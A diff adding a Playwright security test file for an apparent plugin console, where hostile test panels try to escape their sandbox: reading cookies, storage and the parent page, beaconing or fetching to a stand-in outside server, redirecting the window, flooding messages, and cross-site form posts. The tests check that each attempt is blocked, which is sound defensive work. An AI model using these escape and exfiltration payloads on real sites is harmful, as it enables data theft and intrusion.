@@ -1,0 +1,296 @@
+import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, afterEach, before, beforeEach, test } from 'node:test';
+import type { Browser, FrameLocator } from 'playwright-core';
+import { createApiClient } from './support/api-client.ts';
+import { ConsolePage, launchBrowser } from './support/console-page.ts';
+import { filesBelow } from './support/files-below.ts';
+import { startTestDaemon, type TestDaemon } from './support/start-test-daemon.ts';
+import { writePanelPlugin } from './support/write-panel-plugin.ts';
+
+let gatehouse: TestDaemon;
+let browser: Browser;
+let catcher: Server;
+let elsewhere = '';
+let caught: string[] = [];
+let scratch = '';
+const opened: ConsolePage[] = [];
+before(async () => {
+  scratch = await mkdtemp(join(tmpdir(), 'gatehouse-attacks-'));
+  catcher = createServer((request, response) => {
+    caught.push(`${request.method} ${request.url}`);
+    response.setHeader('content-type', 'text/html');
+    response.end('<p>another site</p>');
+  }).listen(0, '127.0.0.1');
+  await once(catcher, 'listening');
+  elsewhere = `http://127.0.0.1:${(catcher.address() as AddressInfo).port}`;
+  await writePanelPlugin(join(scratch, 'probe'), panels());
+  [gatehouse, browser] = await Promise.all([
+    startTestDaemon({ plugins: [join(scratch, 'probe')] }),
+    launchBrowser(),
+  ]);
+});
+beforeEach(() => {
+  caught = [];
+});
+afterEach(async () => {
+  for (const one of opened.splice(0)) await one.close();
+});
+after(async () => {
+  await browser.close();
+  await gatehouse.stop();
+  catcher.closeAllConnections();
+  catcher.close();
+  await rm(scratch, { recursive: true, force: true });
+});
+
+/** Each tries one thing when its button is pressed, and shows what came of it. */
+function panels() {
+  const page = (
+    script: string,
+  ) => `<!doctype html><title>Hostile</title><button id="go">Go</button><pre id="out"></pre>
+    <script>
+      const show = (text) => { out.textContent += text + '\\n'; };
+      const tryTo = async (name, act) => {
+        try { show(name + ' got ' + JSON.stringify(await act())); } catch (error) { show(name + ' failed'); }
+      };
+      addEventListener('message', ({ data }) => show('message ' + JSON.stringify(data)));
+      go.addEventListener('click', async () => { ${script}; show('over'); });
+    </script>`;
+  const ask = (name: string) =>
+    `parent.postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: '${name}', arguments: { name: 'x', text: 'changed' } } }, '*')`;
+  return {
+    honest: { html: page(ask('probe_set')), operations: ['probe_set'] },
+    unlisted: { html: page(ask('probe_set')), operations: ['probe_get'] },
+    flood: {
+      html: page(
+        `for (let sent = 0; sent < 1e5; sent += 1) parent.postMessage({ jsonrpc: '2.0', id: sent, method: 'ping' }, '*')`,
+      ),
+      operations: [],
+    },
+    top: {
+      html: page(`
+        await tryTo('top', () => { top.location = '${elsewhere}/top'; return 'went'; });
+        await tryTo('open', () => { const tab = open('${elsewhere}/open'); return tab === null ? Promise.reject() : 'opened'; });
+        await tryTo('link', () => { const a = document.createElement('a'); a.href = '${elsewhere}/link'; a.target = '_top'; document.body.append(a); a.click(); return 'clicked'; })`),
+      operations: [],
+    },
+    self: { html: page(`location = '${elsewhere}/self?stolen'`), operations: [] },
+    reader: {
+      html: page(`
+        await tryTo('document', () => parent.document.body.innerHTML);
+        await tryTo('storage', () => JSON.stringify(localStorage));
+        await tryTo('session', () => JSON.stringify(sessionStorage));
+        await tryTo('cookie', () => document.cookie);
+        await tryTo('address', () => top.location.href);
+        await tryTo('database', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('open'); open.onerror = reject; }));
+        await tryTo('api', () => fetch('/api/v1/capabilities').then((answer) => answer.text()));
+        await tryTo('fetch', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }).then(() => 'sent'));
+        await tryTo('import', () => import('${elsewhere}/import.js'));
+        await tryTo('eval', () => (0, eval)('1 + 1'));
+        await tryTo('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); return 'queued'; });
+        await tryTo('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject; }));
+        await tryTo('picture', () => new Promise((resolve, reject) => { const picture = new Image(); picture.onload = resolve; picture.onerror = reject; picture.src = '${elsewhere}/picture.png'; }))`),
+      operations: [],
+    },
+    neighbour: {
+      html: page(
+        `parent.frames.length; for (let place = 0; place < parent.frames.length; place += 1) parent.frames[place].postMessage({ jsonrpc: '2.0', id: 9, method: 'ui/initialize' }, '*'); ${ask('probe_set')}`,
+      ),
+      operations: [],
+    },
+  };
+}
+
+async function openProbe(): Promise<ConsolePage> {
+  const shown = await ConsolePage.open(browser, gatehouse, { host: 'editor' });
+  opened.push(shown);
+  await shown.goTo('Probe');
+  return shown;
+}
+
+const inside = ({ page }: ConsolePage, id: string) => page.frameLocator(`iframe[title="Panel ${id}"]`);
+
+/** Lets a panel try, and answers what it shows then. */
+async function attempt(frame: FrameLocator): Promise<string> {
+  await frame.getByRole('button', { name: 'Go' }).click();
+  await frame.locator('#out').getByText('over').waitFor();
+  return (await frame.locator('#out').textContent()) ?? '';
+}
+
+const value = async () => (await gatehouse.runner.ok('GET /probe')).value;
+const reset = () => gatehouse.runner.ok('PUT /probe/x', { text: 'untouched' });
+
+test('a panel that asks for an operation that it does not list is refused', async () => {
+  await reset();
+  const frame = inside(await openProbe(), 'unlisted');
+  await attempt(frame);
+  await frame.getByText('This panel may not call probe_set').waitFor();
+
+  assert.equal(await value(), 'untouched');
+});
+
+test('messages of another frame, and of the page itself, have no rights of a panel', async () => {
+  await reset();
+  const shown = await openProbe();
+  await inside(shown, 'honest').getByRole('button', { name: 'Go' }).waitFor();
+  const frame = inside(shown, 'neighbour');
+  await attempt(frame);
+  await frame.getByText('This panel may not call probe_set').waitFor();
+  await shown.page.evaluate(
+    `postMessage({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'probe_set', arguments: { name: 'x', text: 'changed' } } }, '*')`,
+  );
+  await shown.goTo('Home');
+
+  assert.equal(await value(), 'untouched');
+});
+
+test('a panel that floods the page is closed, the page goes on, and the person may open it again', async () => {
+  const shown = await openProbe();
+  await inside(shown, 'flood').getByRole('button', { name: 'Go' }).click();
+  await shown.section('Panel flood').getByRole('alert').getByText('too many messages').waitFor();
+  assert.equal(await shown.page.locator('iframe[title="Panel flood"]').count(), 0);
+
+  await reset();
+  await attempt(inside(shown, 'honest'));
+  await inside(shown, 'honest').getByText('structuredContent').waitFor();
+  assert.equal(await value(), 'changed');
+  await shown.section('Panel flood').getByRole('button', { name: 'Open it again' }).click();
+  await inside(shown, 'flood').getByRole('button', { name: 'Go' }).waitFor();
+});
+
+test('a panel leads the window nowhere and opens none', async () => {
+  const shown = await openProbe();
+  const before = shown.page.url();
+  const out = await attempt(inside(shown, 'top'));
+
+  assert.match(out, /open failed/);
+  assert.equal(shown.page.url(), before);
+  assert.equal(shown.page.context().pages().length, 1);
+  assert.deepEqual(caught, []);
+});
+
+test('a panel that goes to another site takes nothing there, and is closed', async () => {
+  const shown = await openProbe();
+  await inside(shown, 'self').getByRole('button', { name: 'Go' }).click();
+  await shown.section('Panel self').getByRole('alert').getByText('another page').waitFor();
+
+  assert.deepEqual(caught, []);
+});
+
+test('a panel reads nothing of the page, its key and its storage, and reaches no network', async () => {
+  const shown = await openProbe();
+  const out = await attempt(inside(shown, 'reader'));
+
+  const got = out.split('\n').filter((line) => line.includes(' got '));
+  assert.deepEqual(got, ['beacon got "queued"']);
+  assert.doesNotMatch(out, /gthk_/);
+  assert.deepEqual(caught, []);
+});
+
+test('a panel that is opened as a page of its own has an opaque origin too', async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(`${gatehouse.editor.baseUrl}/console-panel?plugin=probe&panel=reader`);
+  assert.equal(await page.evaluate('origin'), 'null');
+  await page.getByRole('button', { name: 'Go' }).click();
+  await page.locator('#out').getByText('over').waitFor();
+  const out = (await page.locator('#out').textContent()) ?? '';
+  await context.close();
+
+  assert.match(out, /storage failed[\s\S]*api failed/);
+  assert.deepEqual(caught, []);
+});
+
+test('the page has a policy without exceptions, no cookie and no header for other origins', async () => {
+  for (const { baseUrl } of [gatehouse.editor, gatehouse.runner]) {
+    const { headers } = await fetch(`${baseUrl}/`);
+    const policy = headers.get('content-security-policy') ?? '';
+    assert.match(policy, /default-src 'none'.*frame-ancestors 'none'.*require-trusted-types-for 'script'/);
+    assert.doesNotMatch(policy, /unsafe-|\*|https?:/);
+    assert.deepEqual(
+      [...headers.keys()].filter((name) => name === 'set-cookie' || name.startsWith('access-control-')),
+      [],
+    );
+  }
+});
+
+test('a page of another site reads no answer, sends no form, and has no frame of the console', async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(elsewhere);
+  const base = gatehouse.editor.baseUrl;
+  const attempts: readonly string[] = await page.evaluate(`(async () => {
+    const tried = [];
+    const tryTo = async (name, act) => { try { tried.push(name + ': ' + await act()); } catch { tried.push(name + ' failed'); } };
+    const text = (answer) => answer.text();
+    for (const path of ['/', '/api/v1/ping', '/api/v1/capabilities', '/host/runner/api/v1/ping'])
+      for (const credentials of ['omit', 'include'])
+        await tryTo(path, () => fetch('${base}' + path, { credentials }).then(text));
+    await tryTo('preflight', () => fetch('${base}/api/v1/tasks', { headers: { authorization: 'Bearer gthk_x' } }).then(text));
+    await tryTo('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('${base.replace('http', 'ws')}/'); socket.onopen = () => resolve('open'); socket.onerror = reject; }));
+    await tryTo('frame', () => new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      frame.onload = () => { try { resolve(frame.contentDocument.title || 'blocked'); } catch { resolve('blocked'); } };
+      frame.src = '${base}/';
+      document.body.append(frame);
+    }));
+    return tried;
+  })()`);
+  const answer = page.waitForResponse(`${base}/api/v1/projects`);
+  await page.evaluate(`(() => {
+    const form = Object.assign(document.createElement('form'), { method: 'post', action: '${base}/api/v1/projects', enctype: 'text/plain' });
+    document.body.append(form);
+    form.submit();
+  })()`);
+  const posted = await answer;
+  await context.close();
+
+  assert.deepEqual(
+    attempts.filter((line) => !line.endsWith(' failed')),
+    ['frame: blocked'],
+  );
+  assert.equal(posted.status(), 400);
+  assert.equal((await gatehouse.editor.send('GET /projects/current')).status, 409);
+});
+
+test('the console on the port of the runner edits a project of the editor, and the audit names its key', async () => {
+  await gatehouse.editor.ok('POST /projects');
+  const shown = await ConsolePage.open(browser, gatehouse, { host: 'runner' });
+  opened.push(shown);
+  await shown.goTo('Author');
+  await shown.section('Add an action').getByLabel('What should it do?').fill('pause');
+  await shown.button('Use Logic.Pause').click();
+  await shown.section('Add an action').getByLabel('From').fill('1');
+  await shown.button('Add Logic.Pause').click();
+  await shown.page.getByRole('treeitem', { level: 2 }).first().waitFor();
+  await shown.button('Run').click();
+  await shown.confirmAtTerminal();
+  await shown.page.locator('.run-Success').waitFor();
+
+  const journals = await Promise.all(
+    (await filesBelow(join(gatehouse.dataDir, 'journals'))).map((file) => readFile(file, 'utf8')),
+  );
+  const starts = journals
+    .join('\n')
+    .split('\n')
+    .filter((line) => line.includes('project_start') && line.includes('"host":"editor"'));
+  for (const label of ['console: admin', 'console: admin, stepped up'])
+    assert.ok(
+      starts.some((line) => line.includes(`"keyLabel":"${label}"`)),
+      label,
+    );
+  const link = await gatehouse.runner.ok('POST /auth/console/tickets', { role: 'watch' });
+  const ticket = link.url.split('#ticket=')[1];
+  const page = createApiClient(gatehouse.runner.baseUrl, null, { origin: gatehouse.runner.baseUrl });
+  const { rawKey } = await page.ok('POST /auth/console/enter', { ticket });
+  const watcher = createApiClient(`${gatehouse.runner.baseUrl}/host/editor`, rawKey);
+  const refused = await watcher.send('POST /projects/current/undo');
+  assert.equal(refused.status, 403);
+  assert.deepEqual([refused.body.required.tier, refused.body.current.tier], [1, 0]);
+});
